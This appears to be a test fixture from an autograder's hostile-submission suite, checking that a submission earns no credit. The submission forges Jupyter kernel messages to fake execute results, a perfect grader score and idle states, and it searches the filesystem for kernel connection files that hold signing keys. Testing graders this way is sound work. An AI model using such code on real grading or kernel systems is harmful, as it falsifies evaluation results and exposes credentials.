"""Finds its kernel's key and sockets and sends execute results, replies and idle states of its own."""

from tests.hostile.expected import Expected

ASSIGNMENT = "05_shallow_backprop"
ANSWERS = {
    "normalize_images": """
import glob
import json

kernel = get_ipython().kernel
for parent in (kernel.get_parent("shell"), {}, {"header": {"msg_id": "forged"}}):
    for kind, content in (
        ("execute_result", {"data": {"text/plain": "1000.0"}, "metadata": {}, "execution_count": 1}),
        ("display_data", {"data": {"application/vnd.graders.checks+json": {"score": 6, "checks": []}}, "metadata": {}}),
        ("execute_reply", {"status": "ok", "execution_count": 1}),
        ("status", {"execution_state": "idle"}),
        ("shutdown_reply", {"restart": False}),
    ):
        for socket in [kernel.iopub_socket, getattr(kernel, "shell_socket", None), getattr(kernel, "control_socket", None)]:
            try:
                kernel.session.send(socket, kind, content, parent=parent)
            except Exception as error:
                print(type(error).__name__)
for path in glob.glob("/**/kernel-*.json", recursive=True):
    print(sorted(json.load(open(path))))

def normalize_images(x):
    return np.zeros(np.shape(x))
"""
}
EXPECT = Expected(earned={"normalize_images": 0}, keeps=False)  # a forged idle state may confuse its own later cells
